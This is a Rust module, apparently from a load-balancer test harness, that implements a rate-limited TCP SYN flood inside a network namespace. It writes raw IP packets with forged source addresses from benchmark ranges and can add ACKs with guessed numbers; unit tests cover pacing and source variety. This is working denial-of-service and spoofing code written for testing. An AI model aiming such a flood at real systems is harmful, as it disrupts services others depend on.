//! A SYN flood: whole IP packets with invented sources, through raw sockets.

use std::{
    io,
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV4, SocketAddrV6},
    os::fd::AsRawFd,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use etherparse::PacketBuilder;
use nix::{
    errno::Errno,
    sys::socket::{AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, SockaddrIn6, sendto, socket},
};

use crate::netns::Netns;

/// Sends `flows` SYNs to `target`, each from another address and port (198.18.0.0/15, fd99::/64);
/// with `guess_ack` each is followed by an ACK whose numbers are guessed. At most `per_second`
/// packets a second, and at most half of one processor. Returns the packets sent per second.
pub fn syn_flood(client: &Netns, target: SocketAddr, flows: u32, guess_ack: bool, per_second: u32) -> Result<f64> {
    client.run(move || flood(target, flows, guess_ack, per_second))?
}

fn flood(target: SocketAddr, flows: u32, guess_ack: bool, per_second: u32) -> Result<f64> {
    let family = if target.is_ipv4() { AddressFamily::Inet } else { AddressFamily::Inet6 };
    // IPPROTO_RAW: we write the IP header.
    let socket =
        socket(family, SockType::Raw, SockFlag::empty(), SockProtocol::Raw).context("can't open a raw socket")?;
    let started = Instant::now();
    let mut sent = 0_u32;
    let mut burst = Burst { began: started, sent: 0 };
    for number in 0..flows {
        let guessed_ack = number.wrapping_mul(0x9e37_79b9);
        let syn = packet(target, number, None)?;
        sent += send(socket.as_raw_fd(), target, &syn)?;
        if guess_ack {
            sent += send(socket.as_raw_fd(), target, &packet(target, number, Some(guessed_ack))?)?;
        }
        if number % 64 == 63 {
            std::thread::sleep(burst.rest(sent, per_second, Instant::now()));
            burst = Burst { began: Instant::now(), sent };
        }
    }
    Ok(f64::from(sent) / started.elapsed().as_secs_f64())
}

/// Packets sent without a rest.
struct Burst {
    began: Instant,
    /// Packets sent before it.
    sent: u32,
}

impl Burst {
    /// How long the flood pauses after the burst. It never catches up: on a slow or busy machine a
    /// flood that did would take a whole processor, overflow the backlog queues of veth, and so
    /// lose packets of established connections before any balancer sees them.
    fn rest(&self, sent: u32, per_second: u32, now: Instant) -> Duration {
        let took = now.saturating_duration_since(self.began);
        let wanted = Duration::from_secs_f64(f64::from(sent - self.sent) / f64::from(per_second));
        wanted.saturating_sub(took).max(took)
    }
}

/// A SYN, or with `ack` the packet that would end the handshake.
fn packet(target: SocketAddr, number: u32, ack: Option<u32>) -> Result<Vec<u8>> {
    // 30,000 ports for each source, all sources different from the client's own addresses.
    let port = 1024 + (number % 30_000) as u16;
    let source = number / 30_000 + 1;
    let ip = match target.ip() {
        IpAddr::V4(to) => PacketBuilder::ipv4(Ipv4Addr::from_bits(0xc612_0000 + source).octets(), to.octets(), 64),
        IpAddr::V6(to) => {
            let from = Ipv6Addr::new(0xfd99, 0, 0, 0, 0, 0, (source >> 16) as u16, source as u16);
            PacketBuilder::ipv6(from.octets(), to.octets(), 64)
        }
    };
    let sequence = number.wrapping_mul(0x85eb_ca6b);
    let tcp = match ack {
        None => ip.tcp(port, target.port(), sequence, 64_240).syn(),
        Some(ack) => ip.tcp(port, target.port(), sequence.wrapping_add(1), 64_240).ack(ack),
    };
    let mut bytes = Vec::with_capacity(tcp.size(0));
    tcp.write(&mut bytes, &[]).context("can't build a packet")?;
    Ok(bytes)
}

/// 1 if it was sent, 0 if the interface had no room.
fn send(socket: std::os::fd::RawFd, target: SocketAddr, bytes: &[u8]) -> Result<u32> {
    let sent = match target {
        SocketAddr::V4(to) => {
            sendto(socket, bytes, &SockaddrIn::from(SocketAddrV4::new(*to.ip(), 0)), MsgFlags::empty())
        }
        SocketAddr::V6(to) => {
            sendto(socket, bytes, &SockaddrIn6::from(SocketAddrV6::new(*to.ip(), 0, 0, 0)), MsgFlags::empty())
        }
    };
    match sent {
        Ok(_) => Ok(1),
        Err(Errno::ENOBUFS | Errno::EAGAIN) => Ok(0),
        Err(error) => bail!(io::Error::from(error)),
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn flood_keeps_its_rate_and_leaves_half_of_a_processor() {
        let began = Instant::now();
        let burst = Burst { began, sent: 1000 };
        let rest = |took| burst.rest(1060, 30_000, began + Duration::from_micros(took));
        assert_eq!(rest(500), Duration::from_micros(1500));
        // Slower than the rate allows: as long as it took, and nothing is made up for.
        assert_eq!(rest(5000), Duration::from_micros(5000));
    }

    #[test]
    fn every_packet_of_a_flood_has_another_source() {
        for target in ["192.0.2.10:80", "[2001:db8::10]:80"] {
            let target: SocketAddr = target.parse().unwrap();
            let distinct: BTreeSet<Vec<u8>> = (0..1000).map(|n| packet(target, n * 77, None).unwrap()).collect();
            assert_eq!(distinct.len(), 1000);
        }
    }
}
